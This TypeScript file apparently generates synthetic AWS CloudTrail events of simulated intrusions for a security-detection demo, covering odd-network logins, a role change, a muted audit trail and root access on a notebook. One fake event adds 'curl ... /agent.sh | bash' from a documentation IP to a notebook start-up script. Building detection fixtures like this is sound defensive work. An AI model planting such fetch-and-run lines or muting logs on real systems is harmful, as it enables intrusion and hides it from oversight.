import { type DemoPerson, organizationTrail } from '#demo/accounts.ts';
import type { Actor } from '../people.ts';
import { idOf, streamOf, whole } from '../random.ts';
import type { Place, Scale } from '../types.ts';
import { callsOf, type Deed, drawn, type Recurring, shifted, type Turn } from './deed.ts';
import { domains } from './domains.ts';
import { forgottenFeatures, openedBucket, openedRegistry } from './opened-doors.ts';
import type { Recurrence } from './recurrence.ts';
import { prodEu, prodUs, researchEu, roleArn } from './setting.ts';

const minuteMs = 60_000;
const hourMs = 60 * minuteMs;

const every = (hours: number, offsetHours: number, lastsMinutes: number): Recurrence => ({
  everyMs: hours * hourMs,
  offsetMs: Math.round(offsetHours * 60) * minuteMs,
  lastsMs: lastsMinutes * minuteMs,
});

/** What rules over events are there to find. Each recurs, at times that its seed shifts, so that any 24 hours hold all of one. */
const intrusions = {
  strangeStudio: every(20, 3.2, 6),
  borrowedRole: every(21, 10.4, 14),
  backdoorScript: every(19, 6.7, 1),
  silencedTrail: every(22, 1.9, 24),
  openedBucket: every(20, 8.3, 42),
  openedRegistry: every(21, 12.6, 26),
  rootNotebook: every(18, 15.1, 1),
  forgottenFeatures: every(21, 5.5, 4),
} as const satisfies Record<string, Recurrence>;

export type Intrusion = keyof typeof intrusions;

/** When an intrusion happens to the account of a seed. */
export const intrusionTimes = (kind: Intrusion, seed: string): Recurrence => shifted(intrusions[kind], kind, seed);

const studio = domains[0]?.id ?? '';
const as = (person: DemoPerson): { actor: Actor } => ({ actor: { person } });
const sagemaker = { source: 'sagemaker' } as const;

const victims = ['data-sci-2', 'data-sci-4', 'ml-lead'] as const satisfies readonly DemoPerson[];

/** Whose credentials are used from elsewhere: in turn, for who comes from four new networks in a week has none that is usual. */
const victimOf = ({ seed, index }: Turn): DemoPerson => {
  const turn = index + whole(streamOf(seed, 'victims'), 0, victims.length);
  return victims[((turn % victims.length) + victims.length) % victims.length] ?? victims[0];
};

/** Somebody's credentials open their Studio, or a notebook, from a network that they never came from. Each time it is another one. */
function strangeStudio(turn: Turn): Deed[] {
  const { at, index, seed } = turn;
  const person = victimOf(turn);
  const network = `2001:db8:${((index ^ whole(streamOf(seed, 'networks'), 0, 0xffff)) & 0xffff).toString(16)}::`;
  const fields = { sourceIPAddress: `${network}5a`, userAgent: 'python-requests/2.32.5' };
  const call = { ...as(person), ...sagemaker, fields };
  const opened = { at: at + 5 * minuteMs, response: { AuthorizedUrl: 'HIDDEN_DUE_TO_SECURITY_REASONS' } };
  const isStudio = drawn([true, false], 'opened', turn);
  return [
    {
      ...call,
      at,
      name: isStudio ? 'ListUserProfiles' : 'ListNotebookInstances',
      request: isStudio ? { DomainIdEquals: studio } : { StatusEquals: 'InService' },
      shows: { unusual_network: network },
    },
    isStudio
      ? {
          ...call,
          ...opened,
          name: 'CreatePresignedDomainUrl',
          request: { DomainId: studio, UserProfileName: person, SessionExpirationDurationInSeconds: 43_200 },
          shows: { presigned_url_opened: studio },
        }
      : {
          ...call,
          ...opened,
          name: 'CreatePresignedNotebookInstanceUrl',
          request: { NotebookInstanceName: rootNotebookName },
          shows: { presigned_url_opened: rootNotebookName },
        },
  ];
}

/** Who is refused a role; the other one tries what they may do (security-events): two of one person at once would run into each other. */
export const borrowerOf = (seed: string): DemoPerson => drawn(['data-sci-2', 'data-sci-4'], 'borrower', { seed, index: 0 });

/** A developer is refused a role for their user profile, and has it twelve minutes later: a role nobody passed before. */
function borrowedRole({ at, index, seed }: Turn): Deed[] {
  const person = borrowerOf(seed);
  const name = `Experiment-${idOf(6, 'experiment', seed, String(index))}`;
  const role = roleArn(prodEu, name);
  const call = {
    ...as(person),
    ...sagemaker,
    name: 'UpdateUserProfile',
    request: { DomainId: studio, UserProfileName: person, UserSettings: { ExecutionRole: role } },
  };
  const message = `User: arn:aws:sts::${prodEu.account}:assumed-role/AWSReservedSSO_Developer_1122334455667788/${person} is not authorized to perform: iam:PassRole on resource: ${role}`;
  return [
    { ...call, at, error: { code: 'AccessDeniedException', message } },
    {
      ...call,
      at: at + 12 * minuteMs,
      response: { UserProfileArn: `arn:aws:sagemaker:eu-west-1:${prodEu.account}:user-profile/${studio}/${person}` },
      shows: { role_passed_first: name, denied_then_allowed: person },
    },
  ];
}

const idle = [
  '#!/bin/bash',
  'set -e',
  'IDLE_MINUTES=60',
  'python3 /opt/autostop.py --time $((IDLE_MINUTES * 60)) --ignore-connections',
];
const scriptOf = (lines: readonly string[]): string => Buffer.from(`${lines.join('\n')}\n`).toString('base64');

/** The lifecycle script of notebooks is given a line that fetches a program from somewhere; a minute later it is as it was. */
function backdoorScript(turn: Turn): Deed[] {
  const person = drawn(['ml-lead', 'data-sci-2', 'data-sci-4'] as const, 'script writer', turn);
  const config = drawn(['stop-when-idle', 'install-tools'], 'script', turn);
  const backdoor = `curl -s http://203.0.113.${60 + (turn.index & 31)}/agent.sh | bash`;
  const write = (lines: readonly string[]): Omit<Deed, 'at'> => ({
    ...as(person),
    ...sagemaker,
    name: 'UpdateNotebookInstanceLifecycleConfig',
    request: { NotebookInstanceLifecycleConfigName: config, OnStart: [{ Content: scriptOf(lines) }] },
    response: {},
    shows: { lifecycle_script_changed: config },
  });
  return [
    { at: turn.at, ...write([...idle, backdoor]) },
    { at: turn.at + 55_000, ...write(idle) },
  ];
}

/** Logging is off for six minutes; then the trail forgets reads for a quarter of an hour. */
function silencedTrail(turn: Turn): Deed[] {
  const { arn, name } = organizationTrail;
  const call = {
    ...as(drawn(['cloud-sec-1', 'ml-lead', 'release-1'] as const, 'silencer', turn)),
    source: 'cloudtrail',
    response: {},
  };
  const selectors = (kind: string) => ({
    TrailName: arn,
    EventSelectors: [
      { ReadWriteType: kind, IncludeManagementEvents: true, DataResources: [], ExcludeManagementEventSources: [] },
    ],
  });
  const { at } = turn;
  return [
    { ...call, at, name: 'StopLogging', request: { Name: arn }, shows: { trail_stopped: name } },
    { ...call, at: at + 6 * minuteMs, name: 'StartLogging', request: { Name: arn } },
    {
      ...call,
      at: at + 8 * minuteMs,
      name: 'PutEventSelectors',
      request: selectors('WriteOnly'),
      shows: { trail_narrowed: name },
    },
    { ...call, at: at + 23 * minuteMs, name: 'PutEventSelectors', request: selectors('All') },
  ];
}

const rootNotebookName = 'nb-data-sci-2-g5';

/** Root access to a notebook is asked for, which it has. */
const rootNotebook = (turn: Turn): Deed[] => [
  {
    ...as(drawn(victims, 'root asker', turn)),
    ...sagemaker,
    at: turn.at,
    name: 'UpdateNotebookInstance',
    request: { NotebookInstanceName: rootNotebookName, RootAccess: 'Enabled' },
    response: {},
    shows: { notebook_opened_up: rootNotebookName },
  },
];

/** IAM is global: its events appear in us-east-1. */
const rows: readonly Recurring<Intrusion>[] = [
  { place: prodEu, kind: 'strangeStudio', calls: strangeStudio },
  { place: prodEu, kind: 'borrowedRole', calls: borrowedRole },
  { place: prodEu, kind: 'backdoorScript', calls: backdoorScript },
  { place: prodEu, kind: 'silencedTrail', calls: silencedTrail },
  { place: researchEu, kind: 'openedBucket', calls: openedBucket },
  { place: prodUs, kind: 'openedRegistry', calls: openedRegistry },
  { place: prodEu, kind: 'rootNotebook', calls: rootNotebook },
  { place: prodUs, kind: 'forgottenFeatures', calls: forgottenFeatures },
];

/** Calls of intruders in [from, to), and some just outside it. */
export const intrusionCalls = (of: { seed: string; scale: Scale }, place: Place, from: number, to: number): Deed[] =>
  callsOf({ rows, timesOf: intrusionTimes }, of, { place, from, to });
